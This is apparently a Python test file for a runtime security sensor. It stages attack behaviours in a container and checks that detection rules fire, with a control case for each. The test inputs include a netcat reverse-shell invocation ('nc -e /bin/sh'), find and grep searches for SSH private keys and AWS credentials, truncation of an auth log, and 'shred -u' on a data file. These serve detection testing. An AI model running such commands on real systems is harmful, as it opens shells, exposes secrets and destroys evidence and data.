"""Execution and discovery attacks performed for real in a container: a server binary spawning a
shell, netcat with -e, credential searches with find and grep, a system user running a command
under an sshd ancestor, log truncation and shred. Each has a near-miss control."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from otelguard import semconv as S
from otelguard.ebpf.sensor import Sensor
from otelguard.processors.detection.processor import FalcoRulesProcessor
from tests.attacks.harness import (
    PYTHON, PYTHON_NAME, Attack, named_binary, python_attack, run_attack,
)

pytestmark = [pytest.mark.kernel, pytest.mark.timeout(90)]

# /bin/sh is dash; the agent says "sh" when the shell exited before /proc/<pid>/exe was read
SH = ("sh", "dash")
SPAWN_SHELL = "import subprocess; subprocess.run(['/bin/sh', '-c', 'id -u'], check=True)"


def _execs(attack: Attack, name: str) -> list[dict[str, Any]]:
    return [a for a in attack.records(S.EV_PROCESS_EXEC)
            if a.get(S.PROCESS_EXECUTABLE_NAME) == name]


def test_shell_spawned_by_web_server(sensor: Sensor, stage: FalcoRulesProcessor,
                                     bindir: Path) -> None:
    httpd = named_binary(bindir, "httpd")
    attack = python_attack(sensor, stage, SPAWN_SHELL, exe=httpd)
    d = attack.detection(
        "Run shell untrusted", "NOTICE", S.EV_PROCESS_EXEC,
        body=["Shell spawned by untrusted binary", "parent=httpd", " -c id -u",
              "evt_type=execve", f"pcmdline=httpd -c {SPAWN_SHELL}"],
        evidence={S.PROCESS_PARENT_EXECUTABLE_NAME: "httpd"})
    assert d.trigger_attrs[S.PROCESS_EXECUTABLE_NAME] in SH
    assert d.trigger_attrs[S.PROCESS_COMMAND_ARGS] == ["/bin/sh", "-c", "id -u"]


def test_shell_spawned_by_server_applet_link(sensor: Sensor, stage: FalcoRulesProcessor,
                                             bindir: Path) -> None:
    # busybox images start `httpd` through a link to the multi-call binary: the parent's name
    # (Falco's proc.pname / proc.aname: the comm) is the link's, not the target's
    httpd = bindir / "httpd"
    httpd.symlink_to(PYTHON)
    attack = python_attack(sensor, stage, SPAWN_SHELL, exe=str(httpd))
    d = attack.detection("Run shell untrusted", "NOTICE", S.EV_PROCESS_EXEC,
                         body=["Shell spawned by untrusted binary", "parent=httpd"])
    assert d.trigger_attrs[S.PROCESS_ANCESTORS][0] == "httpd"
    assert d.trigger_attrs[S.PROCESS_PARENT_EXECUTABLE_PATH] == PYTHON  # semconv: the target


def test_shell_spawned_by_ordinary_program_does_not_fire(sensor: Sensor,
                                                         stage: FalcoRulesProcessor) -> None:
    attack = python_attack(sensor, stage, SPAWN_SHELL)
    shells = _execs(attack, "dash") + _execs(attack, "sh")
    assert shells and shells[0][S.PROCESS_PARENT_EXECUTABLE_NAME] == PYTHON_NAME
    assert not attack.fired("Run shell untrusted")


def test_netcat_with_exec_in_container(sensor: Sensor, stage: FalcoRulesProcessor,
                                       bindir: Path) -> None:
    # a harmless binary named nc, invoked the way a reverse-shell payload invokes netcat
    nc = named_binary(bindir, "nc", of="/bin/true")
    attack = run_attack(sensor, stage, [nc, "-e", "/bin/sh", "127.0.0.1", "4444"])
    assert attack.returncode == 0
    attack.detection(
        "Netcat Remote Code Execution in Container", "WARNING", S.EV_PROCESS_EXEC,
        body=["Netcat runs inside container that allows remote code execution",
              "process=nc", "command=nc -e /bin/sh 127.0.0.1 4444"],
        evidence={S.PROCESS_EXECUTABLE_NAME: "nc",
                  S.PROCESS_COMMAND_ARGS: [nc, "-e", "/bin/sh", "127.0.0.1", "4444"]})


def test_netcat_as_a_multi_call_binary_link(sensor: Sensor, stage: FalcoRulesProcessor,
                                            bindir: Path) -> None:
    # busybox images ship nc as a symlink to a multi-call binary: /proc/<pid>/exe names the
    # target, the kernel's comm (Falco's proc.name) names the link. Stand-in for busybox: a
    # symlink to python, which runs as "nc -c <code>" and stays alive a moment.
    nc = bindir / "nc"
    nc.symlink_to(PYTHON)
    attack = run_attack(sensor, stage, [str(nc), "-c", "import time; time.sleep(0.3)"])
    assert attack.returncode == 0, attack.stderr.decode()
    d = attack.detection(
        "Netcat Remote Code Execution in Container", "WARNING", S.EV_PROCESS_EXEC,
        body=["process=nc", "command=nc -c import time; time.sleep(0.3)"],
        evidence={S.PROCESS_COMM: "nc"})
    assert d.trigger_attrs[S.PROCESS_EXECUTABLE_PATH] == PYTHON  # semconv: the exe's target


def test_netcat_port_scan_does_not_fire(sensor: Sensor, stage: FalcoRulesProcessor,
                                        bindir: Path) -> None:
    nc = named_binary(bindir, "nc", of="/bin/true")
    attack = run_attack(sensor, stage, [nc, "-z", "127.0.0.1", "4444"])
    assert _execs(attack, "nc")
    assert not attack.fired("Netcat Remote Code Execution in Container")


def test_netcat_with_exec_on_the_host_does_not_fire(sensor: Sensor, stage: FalcoRulesProcessor,
                                                    bindir: Path) -> None:
    nc = named_binary(bindir, "nc", of="/bin/true")
    attack = run_attack(sensor, stage, [nc, "-e", "/bin/sh", "127.0.0.1", "4444"], host=True)
    assert _execs(attack, "nc") and attack.events[0].container_id == ""
    assert not attack.fired("Netcat Remote Code Execution in Container")


def test_find_private_keys_and_aws_credentials(sensor: Sensor, stage: FalcoRulesProcessor,
                                               bindir: Path) -> None:
    (bindir / ".aws").mkdir()
    (bindir / ".aws" / "credentials").write_text("[default]\n")
    (bindir / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    script = (f"find {bindir} -name id_rsa; find {bindir} -path '*/.aws/credentials'; "
              f"grep -rl 'BEGIN OPENSSH PRIVATE' {bindir}; true")
    attack = run_attack(sensor, stage, ["/bin/sh", "-c", script])
    assert attack.returncode == 0 and b"credentials" in attack.stdout
    keys = attack.fired("Search Private Keys or Passwords")
    assert sorted(d.trigger_attrs[S.PROCESS_EXECUTABLE_NAME] for d in keys) == ["find", "grep"]
    attack.detection(
        "Search Private Keys or Passwords", "WARNING", S.EV_PROCESS_EXEC,
        body=["Grep private keys or passwords activities found"])
    aws = attack.detection(
        "Find AWS Credentials", "WARNING", S.EV_PROCESS_EXEC,
        body=["Detected AWS credentials search activity", "process=find",
              f"command=find {bindir} -path */.aws/credentials"])
    assert aws.trigger_attrs[S.PROCESS_COMMAND_ARGS] == ["find", str(bindir), "-path",
                                                         "*/.aws/credentials"]


def test_ordinary_find_and_grep_do_not_fire(sensor: Sensor, stage: FalcoRulesProcessor,
                                            bindir: Path) -> None:
    (bindir / "notes.txt").write_text("BEGIN CERTIFICATE\n")
    script = f"find {bindir} -name '*.txt'; grep -rl 'BEGIN CERTIFICATE' {bindir}"
    attack = run_attack(sensor, stage, ["/bin/sh", "-c", script])
    assert attack.returncode == 0
    assert _execs(attack, "find") and _execs(attack, "grep")
    assert not attack.fired("Search Private Keys or Passwords")
    assert not attack.fired("Find AWS Credentials")


def test_truncate_log_file(sensor: Sensor, stage: FalcoRulesProcessor, tmp_path: Path) -> None:
    log = tmp_path / "auth.log"
    script = f"echo 'sshd[1]: Accepted publickey for root' >> {log}; : > {log}"
    attack = run_attack(sensor, stage, ["/bin/sh", "-c", script])
    assert attack.returncode == 0 and log.stat().st_size == 0
    d = attack.detection(
        "Clear Log Activities", "WARNING", S.EV_FILE_OPEN,
        body=["Log files were tampered", f"file={log}", "evt_type=openat"],
        evidence={S.FILE_PATH: str(log)})
    assert "O_TRUNC" in str(d.trigger_attrs[S.FILE_OPEN_FLAGS])
    assert d.trigger_attrs[S.PROCESS_EXECUTABLE_NAME] in SH


def test_appending_to_log_file_does_not_fire(sensor: Sensor, stage: FalcoRulesProcessor,
                                             tmp_path: Path) -> None:
    log = tmp_path / "auth.log"
    attack = run_attack(sensor, stage, ["/bin/sh", "-c", f"echo y >> {log}"])
    opens = [a for a in attack.records(S.EV_FILE_OPEN) if a.get(S.FILE_PATH) == str(log)]
    assert opens and "O_APPEND" in str(opens[0][S.FILE_OPEN_FLAGS])
    assert not attack.fired("Clear Log Activities")


def test_shred_removes_data(sensor: Sensor, stage: FalcoRulesProcessor, tmp_path: Path) -> None:
    victim = tmp_path / "customers.db"
    script = f"head -c 4096 /dev/urandom > {victim} && exec shred -u {victim}"
    attack = run_attack(sensor, stage, ["/bin/sh", "-c", script])
    assert attack.returncode == 0 and not victim.exists()
    attack.detection(
        "Remove Bulk Data from Disk", "WARNING", S.EV_PROCESS_EXEC,
        body=["Bulk data has been removed from disk", "process=shred",
              f"command=shred -u {victim}"],
        evidence={S.PROCESS_EXECUTABLE_NAME: "shred"})


def test_rm_does_not_fire(sensor: Sensor, stage: FalcoRulesProcessor, tmp_path: Path) -> None:
    victim = tmp_path / "customers.db"
    script = f"head -c 4096 /dev/urandom > {victim} && exec rm {victim}"
    attack = run_attack(sensor, stage, ["/bin/sh", "-c", script])
    assert attack.returncode == 0 and _execs(attack, "rm")
    assert not attack.fired("Remove Bulk Data from Disk")


SYSTEM_USER_LOGIN = """
import os, pty, sys
pid, fd = pty.fork()      # a real terminal, as an interactive session has
if pid == 0:
    os.setgid(1); os.setuid(1)                 # daemon
    os.execv('/bin/sleep', ['sleep', '0.3'])  # lives a moment: tty is read from /proc
while True:
    try:
        if not os.read(fd, 4096):
            break
    except OSError:
        break
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status))
"""


def test_system_user_runs_command_in_ssh_session(sensor: Sensor, stage: FalcoRulesProcessor,
                                                 bindir: Path) -> None:
    sshd = named_binary(bindir, "sshd")
    attack = python_attack(sensor, stage, SYSTEM_USER_LOGIN, exe=sshd)
    d = attack.detection(
        "System user interactive", "INFORMATIONAL", S.EV_PROCESS_EXEC,
        body=["System user ran an interactive command", "user=daemon", "user_uid=1",
              "process=sleep", "parent=sshd", "command=sleep 0.3"],
        evidence={S.PROCESS_USER_NAME: "daemon", S.PROCESS_EXECUTABLE_NAME: "sleep"})
    assert int(d.trigger_attrs[S.PROCESS_TTY]) != 0
    assert "terminal=0" not in d.body


def test_system_user_outside_a_login_session_does_not_fire(
        sensor: Sensor, stage: FalcoRulesProcessor) -> None:
    attack = python_attack(sensor, stage, SYSTEM_USER_LOGIN)
    sleep = _execs(attack, "sleep")
    assert sleep and sleep[0][S.PROCESS_USER_NAME] == "daemon"
    assert not attack.fired("System user interactive")


TERMINAL_SHELL = """
import os, pty, sys
pid, fd = pty.fork()                     # the terminal `kubectl exec -it` allocates
if pid == 0:
    os.execv('/bin/sh', ['sh', '-c', 'sleep 0.3'])
while True:
    try:
        if not os.read(fd, 4096):
            break
    except OSError:
        break
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status))
"""


def test_terminal_shell_exec_into_container(sensor: Sensor, stage: FalcoRulesProcessor,
                                            bindir: Path) -> None:
    # what `kubectl exec -it` looks like on the node: the runtime (runc) starts a shell with
    # a terminal in the container
    runc = named_binary(bindir, "runc")
    attack = python_attack(sensor, stage, TERMINAL_SHELL, exe=runc)
    d = attack.detection(
        "Terminal shell in container", "NOTICE", S.EV_PROCESS_EXEC,
        body=["A shell was spawned in a container with an attached terminal", "process=sh",
              "parent=runc", "command=sh -c sleep 0.3"],
        evidence={S.PROCESS_COMM: "sh"})
    assert int(d.trigger_attrs[S.PROCESS_TTY]) != 0


def test_shell_without_terminal_from_runtime_does_not_fire(
        sensor: Sensor, stage: FalcoRulesProcessor, bindir: Path) -> None:
    runc = named_binary(bindir, "runc")
    code = "import subprocess; subprocess.run(['/bin/sh', '-c', 'sleep 0.3'], check=True)"
    attack = python_attack(sensor, stage, code, exe=runc)
    shells = [a for a in attack.records(S.EV_PROCESS_EXEC) if a.get(S.PROCESS_COMM) == "sh"]
    assert shells and shells[0][S.PROCESS_TTY] == 0
    assert not attack.fired("Terminal shell in container")
